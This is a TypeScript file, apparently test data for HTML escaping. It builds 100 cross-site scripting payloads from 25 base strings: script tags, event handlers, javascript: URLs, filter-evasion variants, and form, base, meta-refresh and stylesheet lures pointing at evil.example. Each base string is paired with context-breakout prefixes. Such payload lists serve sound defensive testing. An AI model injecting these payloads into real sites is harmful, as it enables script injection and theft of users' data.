/** What runs, or breaks out, where a page does not escape what it is given. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><button>x',
  '<button formaction="javascript:alert(1)">x',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<object data="https://evil.example"></object>',
  '<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script\t>alert(1)</script\n>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
]
const escapes = ['', '"', "'", '">', "'>", '"/>', '</title>', '</textarea>', '</style>', '-->']

/** A hundred of them: each payload after four of the ways out of where it may stand. */
export const hundredPayloads: readonly string[] = payloads.flatMap((payload, index) =>
  [0, 1, 2, 3].map((step) => `${escapes[(index + 3 * step) % escapes.length] ?? ''}${payload}`),
)

/** A page without what it says: its elements and the names of their attributes. */
export function skeletonOf(page: string): string {
  return page.replaceAll(/="[^"]*"/g, '=""').replaceAll(/>[^<]*/g, '>')
}
